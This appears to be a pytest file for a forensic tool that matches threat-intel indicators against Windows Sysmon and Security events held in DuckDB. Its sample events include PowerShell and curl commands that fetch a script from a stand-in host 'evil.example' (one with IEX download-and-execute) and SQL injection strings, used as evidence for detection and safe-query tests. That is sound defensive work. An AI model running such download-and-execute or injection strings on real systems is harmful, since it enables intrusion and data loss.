"""Indicator matching as DuckDB joins over the ingest layer's columnar events table."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import duckdb
import pytest

from casefile.errors import IntelError
from casefile.ingest.columnar import write_events
from casefile.models import DetectionKind, Event, Level
from casefile.share import IntelStore, import_intel, match_indicators

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SHA256 = "0f" * 32
MD5 = "d41d8cd98f00b204e9800998ecf8427e"


def ev(record: int, event_id: int, channel: str = SYSMON, **fields: Any) -> Event:
    return Event(
        timestamp=datetime(2022, 7, 15, 8, 0, record, tzinfo=UTC),
        computer="WEB01",
        channel=channel,
        provider="p",
        event_id=event_id,
        record_id=record,
        source_file="web01.evtx",
        fields={"EventID": event_id, **fields},
    )


EVENTS = [
    ev(
        1,
        1,
        Image="C:\\x\\wiper.exe",
        Hashes=f"SHA1={'1' * 40},MD5={MD5.upper()},SHA256={SHA256.upper()},IMPHASH=00",
    ),
    ev(2, 3, DestinationIp="203.0.113.77", SourceIp="10.0.0.5"),
    ev(3, 4624, channel="Security", IpAddress="::ffff:203.0.113.7"),
    ev(4, 3, DestinationIp="2001:db8::42"),
    ev(5, 22, QueryName="C2.Example."),
    ev(6, 22, QueryName="notc2.example"),
    ev(7, 1, CommandLine="powershell iwr http://evil.example/Stage2.ps1 -OutFile s.ps1"),
    ev(8, 1, CommandLine="x'); DROP TABLE events; -- http://nothing.example", Image="it's.exe"),
    ev(9, 15, Hash=f"SHA256={SHA256}", TargetFilename="C:\\drop.bin"),
    ev(10, 4624, channel="Security", IpAddress="-"),
    ev(
        11,
        1,
        CommandLine="powershell IEX (New-Object Net.WebClient).DownloadString('HTTP://evil.example/stage2.ps1');",
    ),
    ev(12, 1, CommandLine="curl http://evil.example/stage2.ps1.bak"),
]
CSV = f"""type,value
sha256,{SHA256}
md5,{MD5}
cidr,203.0.113.0/24
ipv6,2001:db8::/64
domain,c2.example
url,http://evil.example/stage2.ps1
ip,192.0.2.1
"""


@pytest.fixture()
def matched(tmp_path: Path) -> tuple[duckdb.DuckDBPyConnection, list[Any]]:
    con = duckdb.connect(str(tmp_path / "events.duckdb"))
    write_events(con, EVENTS)
    feed = tmp_path / "partner.csv"
    feed.write_text(CSV, encoding="utf-8")
    with IntelStore.open(tmp_path / "intel.duckdb") as store:
        import_intel(store, feed)
        indicators = store.indicators()
    return con, match_indicators(con, indicators)


def test_every_kind_matches_the_right_events(matched: tuple[duckdb.DuckDBPyConnection, list[Any]]) -> None:
    _, detections = matched
    hits = sorted((d.record_id, d.indicator, tuple(sorted(d.matched))) for d in detections)
    assert hits == [
        (1, SHA256, ("Hashes",)),
        (1, MD5, ("Hashes",)),
        (2, "[ipv4-addr:value ISSUBSET '203.0.113.0/24']", ("DestinationIp",)),
        (3, "[ipv4-addr:value ISSUBSET '203.0.113.0/24']", ("IpAddress",)),
        (4, "[ipv6-addr:value ISSUBSET '2001:db8::/64']", ("DestinationIp",)),
        (5, "c2.example", ("QueryName",)),
        (7, "http://evil.example/stage2.ps1", ("CommandLine",)),
        (9, SHA256, ("Hash",)),
        (11, "http://evil.example/stage2.ps1", ("CommandLine",)),
    ]


def test_detections_carry_indicator_source_and_event(
    matched: tuple[duckdb.DuckDBPyConnection, list[Any]],
) -> None:
    con, detections = matched
    dns = next(d for d in detections if d.record_id == 5)
    assert dns.kind is DetectionKind.IOC
    assert dns.source is not None and dns.source.endswith("partner.csv")
    assert dns.rule.title == "Indicator match: c2.example"
    assert dns.rule.level is Level.HIGH
    assert dns.rule.id.startswith("indicator--")
    assert dns.matched == {"QueryName": "C2.Example."}
    assert dns.fields["QueryName"] == "C2.Example."
    assert (dns.computer, dns.channel, dns.event_id, dns.file) == ("WEB01", SYSMON, 22, "web01.evtx")
    assert dns.timestamp == datetime(2022, 7, 15, 8, 0, 5, tzinfo=UTC)
    # hostile evidence text went through bound values only: the table is intact
    assert con.execute("SELECT count(*) FROM events").fetchone() == (len(EVENTS),)
    assert [d.record_id for d in detections] == sorted(d.record_id or 0 for d in detections)


def test_no_indicators_or_no_events_give_nothing(tmp_path: Path) -> None:
    con = duckdb.connect()
    write_events(con, EVENTS)
    assert match_indicators(con, []) == []
    empty = duckdb.connect()
    write_events(empty, [])
    feed = tmp_path / "f.csv"
    feed.write_text(CSV)
    with IntelStore.open(tmp_path / "i.duckdb") as store:
        import_intel(store, feed)
        assert match_indicators(empty, store.indicators()) == []


def test_bad_table_name_is_refused() -> None:
    with pytest.raises(IntelError, match="invalid events table name"):
        match_indicators(duckdb.connect(), [], table='events"; DROP')


def test_ipv6_zone_in_an_indicator_is_dropped_like_in_events(tmp_path: Path) -> None:
    """`fe80::1%eth0` (and `fe80::%3/64`) used to be stored with the zone, while event addresses lose
    theirs: such indicators never matched anything."""
    con = duckdb.connect(str(tmp_path / "events.duckdb"))
    write_events(con, [ev(1, 3, DestinationIp="fe80::1"), ev(2, 3, DestinationIp="fe80::1%12")])
    feed = tmp_path / "zones.csv"
    feed.write_text("type,value\nipv6,fe80::1%eth0\ncidr,fe80::%3/64\n", encoding="utf-8")
    with IntelStore.open(tmp_path / "intel.duckdb") as store:
        assert import_intel(store, feed).issues == []
        indicators = store.indicators()
    assert sorted(a.value for i in indicators for a in i.atoms) == ["fe80::/64", "fe80::1"]
    hits = match_indicators(con, indicators)
    assert sorted((h.record_id, h.indicator) for h in hits) == [
        (1, "[ipv6-addr:value ISSUBSET 'fe80::/64']"),
        (1, "fe80::1"),
        (2, "[ipv6-addr:value ISSUBSET 'fe80::/64']"),
        (2, "fe80::1"),
    ]


def test_ipv4_mapped_ipv6_indicator_matches_like_the_events_address(tmp_path: Path) -> None:
    """Events' `::ffff:a.b.c.d` are read as IPv4; an indicator written that way used to stay IPv6 and
    never matched, not even the same text in an event."""
    con = duckdb.connect(str(tmp_path / "events.duckdb"))
    write_events(
        con,
        [
            ev(1, 3, DestinationIp="203.0.113.7"),
            ev(2, 4624, channel="Security", IpAddress="::ffff:203.0.113.7"),
            ev(3, 3, DestinationIp="10.1.2.3"),
        ],
    )
    feed = tmp_path / "mapped.json"
    feed.write_text(
        json.dumps(
            {
                "type": "bundle",
                "id": "bundle--00000000-0000-4000-8000-000000000000",
                "objects": [
                    {
                        "type": "indicator",
                        "spec_version": "2.1",
                        "id": "indicator--00000000-0000-4000-8000-000000000001",
                        "created": "2022-07-10T00:00:00Z",
                        "modified": "2022-07-10T00:00:00Z",
                        "valid_from": "2022-07-10T00:00:00Z",
                        "pattern": "[ipv6-addr:value = '::ffff:203.0.113.7'] "
                        "OR [ipv6-addr:value ISSUBSET '::ffff:10.0.0.0/104']",
                        "pattern_type": "stix",
                    }
                ],
            }
        ),
        encoding="utf-8",
    )
    with IntelStore.open(tmp_path / "intel.duckdb") as store:
        assert import_intel(store, feed).issues == []
        indicators = store.indicators()
    assert [a.value for a in indicators[0].atoms] == ["10.0.0.0/8", "203.0.113.7"]
    assert sorted((h.record_id, h.indicator) for h in match_indicators(con, indicators)) == [
        (1, "203.0.113.7"),
        (2, "203.0.113.7"),
        (3, indicators[0].pattern),
    ]
